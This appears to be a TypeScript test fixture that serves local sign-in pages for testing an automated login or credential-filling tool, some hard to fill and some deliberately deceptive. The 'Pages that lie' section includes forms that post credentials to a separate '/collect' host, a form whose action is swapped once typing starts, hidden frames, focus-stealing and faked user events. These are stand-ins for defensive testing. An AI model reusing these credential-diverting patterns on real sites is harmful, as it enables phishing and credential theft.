/**
 * Sign-in pages that are hard to fill, and some that lie: each at /NAME/login, with a server that remembers what it was
 * sent. The right sign-in is `goodSignIn`; everything else is refused with the same form again.
 */
import { createServer, type IncomingMessage, type RequestListener, type ServerResponse } from 'node:http';
import { createServer as createEncryptedServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { transformSync } from 'esbuild';

export const goodSignIn = { userName: 'amara.test', password: 'Canary-7f3!Ward/é' };

export interface Sent {
  readonly page: string;
  readonly userName: string;
  readonly password: string;
  /** From the fields' being there to their arrival, in milliseconds; null: not known. */
  readonly after: number | null;
}

export interface SignInPages {
  /** Its origin. */
  readonly url: string;
  /** The same pages at another origin: of another site, and so in another process. */
  readonly other: string;
  readonly sent: Sent[];
  /** Path and query of every request. */
  readonly addresses: string[];
  close(): Promise<void>;
}

const seen = (page: string): string => `<img src="/seen/${page}" width="1" height="1" alt="">`;
const fields = `<label>User name <input name="user" autocomplete="username"></label>
<label>Password <input name="pass" type="password"></label>`;
const html = (body: string): string =>
  `<!doctype html><html lang="en"><meta charset="utf-8"><title>Sign in</title><body>${body}`;
const form = (page: string, inner = fields, more = ''): string =>
  `<form method="post" action="/${page}/session" ${more}>${inner}<button>Sign in</button></form>${seen(page)}`;
/** Sends a sign-in by script, as many pages do. */
const post = (page: string): string => `const send = (user, pass) => fetch('/${page}/session', {
  method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ user, pass }) })
  .then((answer) => { if (answer.ok) location.assign('/${page}/home'); else document.querySelector('#said').textContent = 'No.'; });`;
const shadow = (page: string, mode: string): string =>
  `<sign-in></sign-in><p id="said"></p><script>${post(page)}
  customElements.define('sign-in', class extends HTMLElement { constructor() { super();
    const root = this.attachShadow({ mode: '${mode}' });
    root.innerHTML = \`${fields}<button type="button">Sign in</button>${seen(page)}\`;
    root.querySelector('button').onclick = () =>
      send(root.querySelector('[name=user]').value, root.querySelector('[name=pass]').value); } });</script>`;
const late = (page: string, when: string): string =>
  `<div id="here"></div><script>${when.replace('GO', `document.querySelector('#here').innerHTML = ${JSON.stringify(form(page)).replaceAll('</', '<\\/')}`)}</script>`;

/** Real React, controlled inputs, the state alone is sent. */
function reactPage(): string {
  const require = createRequire(import.meta.url);
  const module = (name: string): string => {
    const at = require
      .resolve(name)
      .replace('index.js', '')
      .replace(/client\.js$/u, '');
    const file =
      { react: 'react', scheduler: 'scheduler', 'react-dom': 'react-dom', 'react-dom/client': 'react-dom-client' }[
        name
      ] ?? name;
    return `modules[${JSON.stringify(name)}] = (module, exports, require) => {${readFileSync(`${at}cjs/${file}.production.js`, 'utf8')}};`;
  };
  const source = `const modules = {}; const loaded = {};
    const process = { env: { NODE_ENV: 'production' } };
    const require = (name) => { if (!loaded[name]) { loaded[name] = { exports: {} }; modules[name](loaded[name], loaded[name].exports, require); } return loaded[name].exports; };
    ${['react', 'scheduler', 'react-dom', 'react-dom/client'].map(module).join('\n')}
    const { createElement: h, useState } = require('react');
    ${post('react')}
    function Page() { const [user, setUser] = useState(''); const [pass, setPass] = useState('');
      return h('form', { onSubmit: (e) => { e.preventDefault(); send(user, pass); } },
        h('input', { name: 'user', 'aria-label': 'User name', value: user, onChange: (e) => setUser(e.target.value) }),
        h('input', { type: 'password', name: 'pass', 'aria-label': 'Password', value: pass, onChange: (e) => setPass(e.target.value) }),
        h('button', { disabled: !user || !pass }, 'Sign in'), h('img', { src: '/seen/react', alt: '' })); }
    require('react-dom/client').createRoot(document.querySelector('#root')).render(h(Page));`;
  return transformSync(source, { format: 'iife', target: 'chrome130' }).code;
}

const pages: Record<string, (origin: string, other: string) => string> = {
  plain: () => form('plain'),
  decoys: () =>
    form(
      'decoys',
      `<input name="user" style="position:absolute;left:-9999px"><input name="pass" type="password" style="opacity:0">
      <div style="display:none"><input name="user"></div><div aria-hidden="true"><input name="pass" type="password"></div>
      <div style="height:0;overflow:hidden"><input name="user"></div>
      <label>User name <input class="real" name="user2"></label><label>Password <input class="real" type="password" name="pass2"></label>`,
    ),
  react: () => '<div id="root"></div><p id="said"></p><script src="/react.js"></script>',
  open: () => shadow('open', 'open'),
  closed: () => shadow('closed', 'closed'),
  steps:
    () => `<div id="one"><label>User name <input name="user"></label><button type="button" id="next">Next</button></div>
    <div id="two" style="display:none"><label>Password <input type="password" name="pass"></label><button type="button" id="go">Sign in</button></div>
    <p id="said"></p><script>${post('steps')}
    next.onclick = () => setTimeout(() => { one.style.display = 'none'; two.style.display = ''; }, 120);
    go.onclick = () => send(document.querySelector('[name=user]').value, document.querySelector('[name=pass]').value);</script>${seen('steps')}`,
  navigations: () =>
    `<form method="post" action="/navigations/name"><label>User name <input name="user"></label><button>Next</button></form>`,
  frame: () => `<h1>Welcome</h1><iframe src="/frame/inner" width="500" height="300"></iframe>`,
  crossframe: (_origin, other) =>
    `<h1>Welcome</h1><div style="height:240px"></div><iframe src="${other}/crossframe/inner" width="500" height="300" style="margin-left:90px"></iframe>`,
  delayed: () => late('delayed', `setTimeout(() => { GO }, 700)`),
  nextframe: () => late('nextframe', `requestAnimationFrame(() => requestAnimationFrame(() => { GO }))`),
  hydrated:
    () => `<form id="f">${fields}<button disabled>Sign in</button></form><p id="said"></p><script>${post('hydrated')}
    setTimeout(() => { const was = document.querySelector('#f'); const now = was.cloneNode(true);
      for (const input of now.querySelectorAll('input')) input.value = ''; now.querySelector('button').disabled = false;
      was.replaceWith(now); now.onsubmit = (event) => { event.preventDefault(); send(now.user.value, now.pass.value); }; }, 400);</script>${seen('hydrated')}`,
  discarded:
    () => `<form method="post" action="/discarded/session">${fields}<button>Sign in</button></form>${seen('discarded')}<script>
    addEventListener('load', () => setTimeout(() => { for (const input of document.querySelectorAll('input')) input.value = ''; }, 20));</script>`,
  csp: () => form('csp'),
  trusted: () =>
    form('trusted') +
    `<script>for (const type of ['keydown', 'input', 'click', 'submit'])
    addEventListener(type, (event) => { if (!event.isTrusted) { event.preventDefault(); document.querySelector('form').remove(); } }, true);</script>`,
  keys: () => `<label>User name <input name="user"></label><label>Password <input type="password" name="pass"></label>
    <button type="button">Sign in</button><p id="said"></p>${seen('keys')}<script>${post('keys')} const held = { user: '', pass: '' };
    addEventListener('keydown', (event) => { if (event.key.length === 1) { held[event.target.name] += event.key; event.preventDefault(); } }, true);
    document.querySelector('button').onclick = () => send(held.user, held.pass);</script>`,
  div: () => `<label>User name <input name="user"></label><label>Password <input type="password" name="pass"></label>
    <div class="go" style="padding:8px;width:90px">Sign in</div><p id="said"></p>${seen('div')}<script>${post('div')}
    document.querySelector('.go').addEventListener('mouseup', () => send(document.querySelector('[name=user]').value, document.querySelector('[name=pass]').value));</script>`,
  autocomplete: () =>
    form('autocomplete', fields.replaceAll('name=', 'autocomplete="off" name='), 'autocomplete="off"'),
  // ── Pages that lie ──
  drifted: () => form('drifted', `${fields}<label>one-time code <input name="code"></label>`),
  elsewhere: () => form('elsewhere').replace('/elsewhere/session', 'http://127.0.0.2/collect'),
  relabelled: () => form('relabelled', fields.replace('type="password"', 'type="text"')),
  framed: (_origin, other) => form('framed') + `<iframe src="${other}/plain/login"></iframe>`,
  inframe: (origin) => `<h1>Sign in</h1><iframe src="${origin}/plain/login" width="600" height="300"></iframe>`,
  /** The frame is of the declared origin by its address alone. */
  sandboxed: (_origin, other) =>
    `<h1>Welcome</h1><iframe sandbox="allow-forms allow-scripts" src="${other}/crossframe/inner" width="500" height="300"></iframe>`,
  hiddenframe: (_origin, other) =>
    `<h1>Welcome</h1><iframe style="opacity:0" src="${other}/crossframe/inner" width="500" height="300"></iframe>`,
  swapped: () =>
    form('swapped') +
    `<script>document.querySelector('[name=user]').addEventListener('input', () => {
    document.querySelector('form').action = 'http://127.0.0.2/collect'; });</script>`,
  leaves: () =>
    form('leaves') +
    `<script>document.querySelector('[name=user]').addEventListener('input', (event) => {
    if (event.target.value.length > 5) location.href = '/plain/login'; });</script>`,
  steals: () =>
    form('steals') +
    `<input id="open" aria-label="Search"><script>document.querySelector('[name=pass]').addEventListener('focus', () => {
    setTimeout(() => document.querySelector('#open').focus(), 0); });</script>`,
  /** Plays a person to whoever watches. */
  plays: () =>
    form('plays') +
    `<script>addEventListener('load', () => { const at = (name) => document.querySelector('[name=' + name + ']');
    globalThis.play = (user, pass) => { at('user').value = user; at('pass').value = pass;
      for (const field of [at('user'), at('pass')]) { field.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true, data: 'd' }));
        field.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true })); }
      document.querySelector('button').dispatchEvent(new MouseEvent('mousedown', { bubbles: true, composed: true }));
      document.querySelector('button').click(); }; });</script>`,
  redirected: () => '',
  // ── Pages that say in their own way how a sign-in ended ──
  says: () => form('says'),
  locks: () => form('locks'),
  locksagain: () => form('locksagain'),
  preset: () =>
    `<form id="f">${fields}<button>Sign in</button></form><p id="said"></p>${seen('preset')}<script>${post('preset')}
    document.querySelector('#f').onsubmit = (event) => { event.preventDefault(); send(event.target.user.value, event.target.pass.value); };</script>`,
  empty: () => '<h1>Closed for maintenance</h1>',
  byaddress: () => `<form>${fields}<button>Sign in</button></form>${seen('byaddress')}`,
};

/** How the pages are served; default: without encryption, at 127.0.0.1, and the other origin is localhost. */
export interface Serving {
  /** PEM. */
  readonly certificatePem: string;
  readonly privateKeyPem: string;
  /** Host names, which the browser has to be told of. */
  readonly host: string;
  readonly otherHost: string;
}

export async function startSignInPages(serving?: Serving): Promise<SignInPages> {
  const sent: Sent[] = [];
  const addresses: string[] = [];
  const seenAt = new Map<string, number>();
  const scripts = { '/react.js': reactPage() };
  let url = '';
  let other = '';
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const address = request.url ?? '/';
    addresses.push(address);
    const path = address.split('?')[0] ?? '';
    const [, page = '', what = ''] = path.split('/');
    const say = (body: string, status = 200, headers: Record<string, string> = {}): void => {
      response.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(body);
    };
    if (page === 'seen') {
      if (!seenAt.has(what)) seenAt.set(what, performance.now());
      say('', 204);
      return;
    }
    const script = scripts[path as keyof typeof scripts] as string | undefined;
    if (script !== undefined) {
      say(script, 200, { 'content-type': 'text/javascript' });
      return;
    }
    if (what === 'login' && page === 'sentaway') {
      say('', 302, { location: `${other}/plain/login` });
      return;
    }
    if (what === 'login' && page === 'redirected') {
      say('', 302, { location: '/plain/login' });
      return;
    }
    if (/^(login|inner)$/iu.test(what)) {
      seenAt.delete(page);
      const body = what === 'inner' ? form(page, fields, 'target="_top"') : (pages[page]?.(url, other) ?? '');
      const isAgain = address.endsWith('?again');
      const error = page === 'says' && isAgain ? '<p class="error">Not known.</p>' : '';
      const csp = { 'content-security-policy': "default-src 'none'; img-src 'self'; form-action 'self'" };
      const cookies: Record<string, string> = { preset: 'signed=before; Path=/', locksagain: 'tries=0; Path=/' };
      const cookie = cookies[page] === undefined ? {} : { 'set-cookie': cookies[page] };
      say(html(error + body), 200, page === 'csp' ? csp : cookie);
      return;
    }
    if (what === 'closed') {
      say(html('<h1>Your account is locked</h1>'));
      return;
    }
    if (what === 'home') {
      say(html('<h1>Your patients</h1>'));
      return;
    }
    let text = '';
    for await (const chunk of request) text += String(chunk);
    const isJson = request.headers['content-type'] === 'application/json';
    const given = isJson
      ? (JSON.parse(text) as Record<string, string>)
      : Object.fromEntries([...new URLSearchParams(text)].filter(([, value]) => value !== ''));
    if (what === 'name') {
      const step = `<input type="hidden" name="user" value="${given['user'] ?? ''}"><p>${given['user'] ?? ''}</p>
        <label>Password for ${given['user'] ?? ''} <input type="password" name="pass"></label>`;
      seenAt.delete(page);
      say(html(form(page, step)));
      return;
    }
    if (what !== 'session') {
      say('', 404);
      return;
    }
    const userName = given['user2'] ?? given['user'] ?? '';
    const password = given['pass2'] ?? given['pass'] ?? '';
    const at = seenAt.get(page);
    sent.push({ page, userName, password, after: at === undefined ? null : performance.now() - at });
    const isRight = userName === goodSignIn.userName && password === goodSignIn.password;
    const refused = page.startsWith('locks') ? `/${page}/closed` : `/${page}/login?again`;
    const cookie = { 'set-cookie': isRight ? 'signed=in; Path=/; HttpOnly' : 'tries=1; Path=/; HttpOnly' };
    if (isJson) say('{}', isRight ? 200 : 401, cookie);
    else say('', 303, { location: isRight ? `/${page}/home` : refused, ...cookie });
  };
  const listener: RequestListener = (request, response) => {
    answer(request, response).catch(() => response.destroy());
  };
  const server = serving
    ? createEncryptedServer({ cert: serving.certificatePem, key: serving.privateKeyPem }, listener)
    : createServer(listener);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const originOf = (host: string): string => `${serving ? 'https' : 'http'}://${host}:${port}`;
  url = originOf(serving?.host ?? '127.0.0.1');
  other = originOf(serving?.otherHost ?? 'localhost');
  return {
    url,
    other,
    sent,
    addresses,
    close: () =>
      new Promise((resolve) => {
        server.close(() => {
          resolve();
        });
        server.closeAllConnections();
      }),
  };
}
